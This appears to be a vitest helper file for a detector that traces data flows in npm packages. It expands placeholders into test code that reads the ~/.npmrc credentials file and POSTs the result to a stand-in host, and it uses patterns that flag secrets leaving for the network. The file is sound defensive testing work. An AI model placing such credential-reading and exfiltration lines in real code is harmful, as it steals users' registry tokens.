/** Small packages, and what is followed in them. */
import { expect, test } from 'vitest';
import type { Flow } from '../../src/code/flow/flow.ts';
import { isWhole } from '../../src/code/flow/whole.ts';
import { eachModule } from '../../src/code/package/modules.ts';
import { packageOf } from '../world.ts';

/** What it is, its code or files, and what its manifest has besides. */
export type Row = readonly [
  name: string,
  code: string | Readonly<Record<string, string>>,
  manifest?: Record<string, unknown>,
];

/** `READ;` puts a file of credentials into `k`; `SEND«x»` posts `x`. */
function written(code: string): string {
  return code
    .replace('READ;', "const k=require('fs').readFileSync(process.env.HOME+'/.npmrc','utf8');")
    .replaceAll(/SEND«(.*?)»/gs, "fetch('https://c.example/', { method: 'POST', body: $1 })");
}

/** Every flow of a package, in words: `environment to network`. */
export function flowsIn(code: Row[1], manifest: Record<string, unknown> = {}): string[] {
  const given = typeof code === 'string' ? { 'index.js': code } : code;
  const files = Object.fromEntries(Object.entries(given).map(([path, text]) => [path, written(text)]));
  const pkg = packageOf({ name: '', files, manifest: { main: 'index.js', ...manifest } });
  const { value, gaps } = eachModule(pkg, {
    root: true,
    select: () => true,
    look: ({ code: linked, flows }) =>
      flows.flatMap((flow) => inWords(flow, isWhole(linked, flow.steps, flow.source.under))),
  });
  expect(gaps).toEqual([]);
  return value.flat();
}

function inWords({ source, sink }: Flow, whole: boolean): string {
  return `${whole ? '' : 'part of '}${source.kind} to ${sink.kind}`;
}

/** A command's output or a file's content may be a property of what the call gives. */
const LEFT = /^(?:environment|(?:part of )?(?:secret file|secret command|clipboard)) to network$/;
export const LEFT_WHOLE = /^(?:environment|secret file|secret command|clipboard) to network$/;

/** Of each, something that was collected leaves. */
export function testLeaving(rows: readonly Row[]): void {
  test.each(rows.map(([name, ...row]) => ({ name, row })))('$name', ({ row }) => {
    expect(flowsIn(...row).filter((flow) => LEFT.test(flow))).not.toEqual([]);
  });
}

/** As TypeScript writes it into a file that it compiles to ES2015. */
export const AWAITER =
  'var __awaiter=(this&&this.__awaiter)||function(t,a,P,g){function ad(v){return v instanceof P?v:new P(function(r){r(v)})}return new (P||(P=Promise))(function(res,rej){function f(v){try{step(g.next(v))}catch(e){rej(e)}}function step(r){r.done?res(r.value):ad(r.value).then(f)}step((g=g.apply(t,a||[])).next())})};';
export const FIELDS =
  'var __classPrivateFieldGet=(this&&this.__classPrivateFieldGet)||function(o,s,k,f){return k==="m"?f:k==="a"?f.call(o):f?f.value:s.get(o)};var __classPrivateFieldSet=(this&&this.__classPrivateFieldSet)||function(o,s,v,k,f){return k==="a"?f.call(o,v):f?f.value=v:s.set(o,v),v};';
